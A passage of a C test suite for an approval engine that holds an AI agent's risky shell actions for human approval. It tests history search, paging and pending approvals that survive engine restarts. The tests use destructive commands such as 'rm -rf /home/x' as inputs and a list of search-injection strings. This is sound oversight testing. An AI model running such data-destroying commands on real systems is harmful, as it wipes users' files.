    h = history(harness_eng, "?q=printf%20nosuchwordanywhere");
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 0);
    json_decref(h);
    /* Case does not matter. */
    h = history(harness_eng, "?q=ZebraQuokka");
    assert_true(has_id(h, out_id));
    json_decref(h);

    /* A read, a HIGH pending and a rejected one for the filters. */
    json_t *read = json_pack("{s:{s:s,s:{s:s}}}", "action", "action", "read", "args", "path",
                             "/workspace/nothing-here");
    char *rb = json_dumps(read, JSON_COMPACT);
    json_decref(read);
    struct reply r;
    execute(harness_eng, s.id, rb, false, &r);
    free(rb);
    assert_int_equal(r.status, 200);
    reply_free(&r);
    json_int_t pend = submit(harness_eng, s.id, "rm -rf /home/hist-pending", NO_RISK, "pending");
    json_int_t rej = submit(harness_eng, s.id, "rm -rf /home/hist-rejected", NO_RISK, "pending");
    json_decref(decide_ok(harness_eng, rej, "reject", NULL));

    char *sq = strdupf("?session=%s", s.id);
    h = history(harness_eng, sq);
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 4);
    all_have(h, "session_id", s.id);
    json_decref(h);
    free(sq);
    sq = strdupf("?session=%s&kind=read", s.id);
    h = history(harness_eng, sq);
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 1);
    all_have(h, "kind", "read");
    json_decref(h);
    free(sq);
    h = history(harness_eng, "?kind=run&state=pending");
    assert_true(has_id(h, pend));
    assert_false(has_id(h, rej));
    all_have(h, "kind", "run");
    all_have(h, "state", "pending");
    json_decref(h);
    h = history(harness_eng, "?state=rejected&risk=high");
    assert_true(has_id(h, rej));
    assert_false(has_id(h, pend));
    all_have(h, "state", "rejected");
    all_have(h, "risk", "high");
    json_decref(h);
    h = history(harness_eng, "?risk=HIGH&q=hist-pending");
    assert_true(has_id(h, pend));
    all_have(h, "risk", "high");
    json_decref(h);
    h = history(harness_eng, "?risk=low&q=zebraquokka");
    assert_true(has_id(h, out_id));
    json_decref(h);
    h = history(harness_eng, "?risk=high&q=zebraquokka");
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 0);
    json_decref(h);
    sq = strdupf("?session=%s&q=zebraquokka", "nosuchsession");
    h = history(harness_eng, sq);
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 0);
    json_decref(h);
    free(sq);

    /* Paging: newest first, next_before until the end, each action once. */
    json_int_t ids[7];
    ids[0] = out_id;
    for (int i = 1; i < 7; i++) {
        char *c = strdupf("echo page-%d", i);
        ids[i] = submit(harness_eng, s.id, c, NO_RISK, "running");
        json_decref(action_get(harness_eng, ids[i], 60));
        free(c);
    }
    for (int variant = 0; variant < 2; variant++) {
        json_int_t before = 0, prev = INT64_MAX;
        int n = 0, pages = 0;
        for (;;) {
            char *q = variant == 0 ? strdupf("/v1/history?session=%s&limit=3", s.id)
                                   : strdupf("/v1/sessions/%s/actions?limit=3", s.id);
            if (before) {
                char *qb = strdupf("%s&before=%lld", q, (long long)before);
                free(q);
                q = qb;
            }
            api(harness_eng, "GET", q, NULL, &r);
            if (r.status != 200)
                print_reply(q, &r);
            assert_int_equal(r.status, 200);
            free(q);
            json_t *list = json_object_get(r.json, "actions");
            assert_true(json_array_size(list) <= 3);
            size_t i;
            json_t *x;
            json_array_foreach(list, i, x)
            {
                json_int_t id = json_integer_value(json_object_get(x, "id"));
                assert_true(id < prev);
                prev = id;
                n++;
            }
            pages++;
            json_t *nb = json_object_get(r.json, "next_before");
            if (json_is_null(nb)) {
                reply_free(&r);
                break;
            }
            assert_int_equal(json_integer_value(nb), prev);
            before = json_integer_value(nb);
            reply_free(&r);
            assert_true(pages < 10);
        }
        /* 4 earlier actions and 6 echoes. */
        assert_int_equal(n, 10);
        assert_true(pages >= 4);
    }
    /* q with paging: the same rows, a page at a time. */
    h = history(harness_eng, "?q=page&limit=4");
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 4);
    json_int_t nb = json_integer_value(json_object_get(h, "next_before"));
    assert_int_equal(nb, ids[3]);
    json_decref(h);
    char *q = strdupf("?q=page&limit=4&before=%lld", (long long)nb);
    h = history(harness_eng, q);
    free(q);
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 2);
    assert_true(has_id(h, ids[2]) && has_id(h, ids[1]));
    assert_true(json_is_null(json_object_get(h, "next_before")));
    json_decref(h);

    /* Query syntax characters are text: never an error. */
    static const char *const hostile[] = {
        "\"",
        "\"\"",
        "*",
        "page*",
        ":",
        "summary:page",
        "-",
        "-page",
        "(",
        ")",
        "(page",
        "page)",
        "a OR b",
        "NOT page",
        "NEAR(a b)",
        "^page",
        "{summary}:x",
        "\"unterminated",
        "'",
        "rm -rf \"x\"",
        "a:b:c",
        "+",
        "page AND",
        "\\",
        "%",
        "_",
        "\xc3\xa9t\xc3\xa9",
        "   ",
        "*:*",
        "col:\"x\" * (y)",
    };
    for (size_t i = 0; i < sizeof(hostile) / sizeof(*hostile); i++) {
        char *esc = escape(hostile[i]);
        char *qq = strdupf("?q=%s", esc);
        h = history(harness_eng, qq);
        json_decref(h);
        free(qq);
        free(esc);
    }
    /* "rm -rf" finds the rm commands as text, the dash included. */
    h = history(harness_eng, "?q=rm%20-rf%20hist-rejected");
    assert_true(has_id(h, rej));
    json_decref(h);
    h = history(harness_eng, "?q=page-3");
    assert_true(has_id(h, ids[3]));
    json_decref(h);

    /* Bad filters. */
    static const char *const bad[] = {"?risk=extreme", "?state=finished", "?state=Done",
                                      "?limit=0",      "?limit=1001",     "?limit=x",
                                      "?before=-1",    "?before=abc"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        char *p = strdupf("/v1/history%s", bad[i]);
        api(harness_eng, "GET", p, NULL, &r);
        expect_error(&r, 400, "bad_request", NULL);
        reply_free(&r);
        free(p);
    }
    char *longq = malloc(1100);
    memset(longq, 'a', 1099);
    longq[1099] = '\0';
    char *p = strdupf("/v1/history?q=%s", longq);
    api(harness_eng, "GET", p, NULL, &r);
    expect_error(&r, 400, "bad_request", "1024");
    reply_free(&r);
    free(p);
    free(longq);

    json_decref(decide_ok(harness_eng, pend, "reject", NULL));
    session_delete(harness_eng, s.id);
    sess_free(&s);
}

/* ---- restarts: approvals survive the engine ---- */

/* A pending action stays pending with its deadline across a restart and can be approved after
 * it. kill9: SIGKILL instead of SIGTERM. */
static void restart_keeps_pending(bool kill9)
{
    struct engine_proc *e = own;
    assert_int_equal(engine_start(e), 0);
    struct sess s = sess_new(e, "high", ", \"approval_timeout\": 3600");
    const char *cmd = "rm -rf /home/x && echo survived >> /workspace/survived && echo survived";
    json_int_t id = submit(e, s.id, cmd, NO_RISK, "pending");
    const char *cmd2 = "rm -rf /home/y && echo blocked >> /workspace/blocked";
    struct async *a = async_run(e, s.id, cmd2, NO_RISK);
    json_int_t id2 = wait_pending(e, s.id, cmd2, NULL);
    json_t *before = action_get(e, id, -1);
    double deadline = json_number_value(json_object_get(before, "deadline"));
    assert_true(deadline > json_number_value(json_object_get(before, "created_at")) + 3000);
    json_decref(before);
    before = action_get(e, id2, -1);
    double deadline2 = json_number_value(json_object_get(before, "deadline"));
    json_decref(before);

    if (kill9) {
        kill_engine(e);
    } else {
        int code = engine_stop(e);
        if (code != 0)
            fail_msg("the engine did not exit cleanly on SIGTERM (status %d)", code);
    }
    async_join(a);
    if (!kill9) {
        /* The agent that waited hears the engine stop and where to poll. */
        if (a->r.status != 503)
            print_reply("blocked execute_action at SIGTERM", &a->r);
        assert_int_equal(a->r.status, 503);
        assert_string_equal(jstr(a->r.json, "error.code"), "unavailable");
        assert_non_null(strstr(jstr(a->r.json, "error.message"), "stays pending"));
    } else {
        assert_true(a->r.status < 0); /* the connection broke */
    }
    async_free(a);

    assert_int_equal(engine_start(e), 0);
    for (int i = 0; i < 2; i++) {
        json_t *g = action_get(e, i ? id2 : id, -1);
        assert_state(g, "pending", "pending");
        /* The same deadline (a REAL in the store, to the microsecond). */
        assert_true(fabs(json_number_value(json_object_get(g, "deadline")) -
                         (i ? deadline2 : deadline)) < 1e-3);
        json_decref(g);
    }
    assert_int_equal(wait_pending(e, s.id, cmd, NULL), id);
    assert_false(ws_has(s.ws, "survived"));

    /* Approved after the restart, it runs (once), rebuilt from the stored action. */
    json_t *d = decide_ok(e, id, "approve", "{\"by\": \"after-restart\"}");
    json_decref(d);
    json_t *g = action_get(e, id, 60);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "observation.content"), "survived");
    assert_string_equal(jstr(g, "decided_by"), "after-restart");
    json_decref(g);
    assert_int_equal(ws_count_lines(s.ws, "survived", "survived"), 1);
    json_decref(decide_ok(e, id2, "reject", NULL));
    assert_false(ws_has(s.ws, "blocked"));

    /* A deadline that passed while the engine was down expires at the next start. */
    struct sess t = sess_new(e, "high", ", \"approval_timeout\": 1");
    json_int_t late =
        submit(e, t.id, "rm -rf /home/late && touch /workspace/late", NO_RISK, "pending");
    if (kill9)
        kill_engine(e);
    else
        assert_int_equal(engine_stop(e), 0);
    sleep_ms(1500);
    assert_int_equal(engine_start(e), 0);
    g = action_get(e, late, 60);
    assert_state(g, "rejected", "expired");
    assert_string_equal(jstr(g, "decided_by"), "timeout");
    json_decref(g);
    decide_expect(e, late, "approve", NULL, 409, "expired", NULL);

    session_delete(e, s.id);
    session_delete(e, t.id);
    assert_false(ws_has(t.ws, "late"));
    sess_free(&s);
    sess_free(&t);
    int code = engine_stop(e);
    if (code != 0)
        fail_msg("the engine did not exit cleanly on SIGTERM (status %d)", code);
}

static void test_restart_sigterm_keeps_pending(void **state)
{
    restart_keeps_pending(false);
}

static void test_restart_sigkill_keeps_pending(void **state)
{
    restart_keeps_pending(true);
}

/* An action in flight when the engine is killed is "interrupted" at the next start and never
 * sent again. */
static void test_sigkill_inflight_interrupted(void **state)
{
    struct engine_proc *e = own;
    assert_int_equal(engine_start(e), 0);
    struct sess s = sess_new(e, "high", NULL);
    const char *cmd = "echo once >> /workspace/inflight; sleep 30";
    struct async *a = async_run(e, s.id, cmd, NO_RISK);
    /* Wait until it reached the sandbox: the file has its line. */
    double deadline = now_ms() + WAIT_MS;
    while (ws_count_lines(s.ws, "inflight", "once") == 0 && now_ms() < deadline)
        sleep_ms(20);
    assert_int_equal(ws_count_lines(s.ws, "inflight", "once"), 1);
    char *q = strdupf("/v1/sessions/%s/actions", s.id);
    struct reply r;
    api(e, "GET", q, NULL, &r);
    assert_int_equal(r.status, 200);
    json_t *row = json_array_get(json_object_get(r.json, "actions"), 0);
    assert_string_equal(jstr(row, "summary"), cmd);
    assert_false(action_state_final(jstr(row, "state")));
    json_int_t id = json_integer_value(json_object_get(row, "id"));
    reply_free(&r);

    kill_engine(e);
    async_join(a);
    assert_true(a->r.status < 0);
    async_free(a);
    assert_int_equal(engine_start(e), 0);
    json_t *g = action_get(e, id, -1);
    assert_state(g, "interrupted", "none");
    assert_non_null(strstr(jstr(g, "error"), "not re-run"));
    assert_true(json_is_number(json_object_get(g, "finished_at")));
    json_decref(g);
    /* Not pending, not decidable. */
    decide_expect(e, id, "approve", NULL, 409, "not_pending", "interrupted");
    api(e, "GET", "/v1/approvals", NULL, &r);
    assert_int_equal(json_array_size(json_object_get(r.json, "approvals")), 0);
    reply_free(&r);
    /* A second restart does not send it either: still one line. */
    assert_int_equal(engine_stop(e), 0);
    assert_int_equal(engine_start(e), 0);
    g = action_get(e, id, -1);
    assert_state(g, "interrupted", "none");
    json_decref(g);
    assert_int_equal(ws_count_lines(s.ws, "inflight", "once"), 1);
    session_delete(e, s.id);
    assert_int_equal(ws_count_lines(s.ws, "inflight", "once"), 1);
    sess_free(&s);
    free(q);
    assert_int_equal(engine_stop(e), 0);
}

/* An action in flight when the engine stops (SIGTERM): the agent hears that the engine stops,
 * the action is "interrupted" (it was not the executor that failed) and never sent again. */
static void test_sigterm_inflight_interrupted(void **state)
{
    struct engine_proc *e = own;
    assert_int_equal(engine_start(e), 0);
    struct sess s = sess_new(e, "high", NULL);
    const char *cmd = "echo once >> /workspace/inflight; sleep 30";
    struct async *a = async_run(e, s.id, cmd, NO_RISK);
    double deadline = now_ms() + WAIT_MS;
    while (ws_count_lines(s.ws, "inflight", "once") == 0 && now_ms() < deadline)
        sleep_ms(20);
    assert_int_equal(ws_count_lines(s.ws, "inflight", "once"), 1);
    json_t *h = NULL;
    char *q = strdupf("/v1/sessions/%s/actions", s.id);
    struct reply r;
    api(e, "GET", q, NULL, &r);
    assert_int_equal(r.status, 200);
    h = json_array_get(json_object_get(r.json, "actions"), 0);
    assert_string_equal(jstr(h, "summary"), cmd);
    json_int_t id = json_integer_value(json_object_get(h, "id"));
    reply_free(&r);
    free(q);

    int code = engine_stop(e);
    if (code != 0)
        fail_msg("the engine did not exit cleanly on SIGTERM (status %d)", code);
    async_join(a);
    if (a->r.status != 503)
        print_reply("execute_action in flight at SIGTERM", &a->r);
    assert_int_equal(a->r.status, 503);
    assert_string_equal(jstr(a->r.json, "error.code"), "unavailable");
    assert_non_null(strstr(jstr(a->r.json, "error.message"), "interrupted"));
    async_free(a);
    assert_int_equal(engine_start(e), 0);
    json_t *g = action_get(e, id, -1);
    assert_state(g, "interrupted", "none");
    assert_non_null(strstr(jstr(g, "error"), "not re-run"));
    json_decref(g);
    assert_int_equal(ws_count_lines(s.ws, "inflight", "once"), 1);
    session_delete(e, s.id);
    sess_free(&s);
    assert_int_equal(engine_stop(e), 0);
}

int main(void)
{
    harness_require();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_block_then_approve),
        cmocka_unit_test(test_block_then_reject),
        cmocka_unit_test(test_wait0_and_long_poll),
        cmocka_unit_test(test_agent_gave_up),
        cmocka_unit_test(test_confirmation_state),
        cmocka_unit_test(test_confirmation_state_in_args),
        cmocka_unit_test(test_risk_route),
        cmocka_unit_test(test_policies_and_declared_risk),
        cmocka_unit_test(test_timeout),
        cmocka_unit_test(test_decision_errors),
        cmocka_unit_test(test_pause),
        cmocka_unit_test(test_stopped),
        cmocka_unit_test(test_session_gone),
        cmocka_unit_test(test_session_deleted),
        cmocka_unit_test(test_rules),
        cmocka_unit_test(test_approvals_list),
        cmocka_unit_test(test_approval_events),
        cmocka_unit_test(test_history),
        cmocka_unit_test_setup_teardown(test_restart_sigterm_keeps_pending, own_setup,
                                        own_teardown),
        cmocka_unit_test_setup_teardown(test_restart_sigkill_keeps_pending, own_setup,
                                        own_teardown),
        cmocka_unit_test_setup_teardown(test_sigkill_inflight_interrupted, own_setup, own_teardown),
        cmocka_unit_test_setup_teardown(test_sigterm_inflight_interrupted, own_setup, own_teardown),
    };
    int failed = cmocka_run_group_tests_name("approvals", tests, group_setup, group_teardown);
    return failed || harness_teardown_failed ? 1 : 0;
}
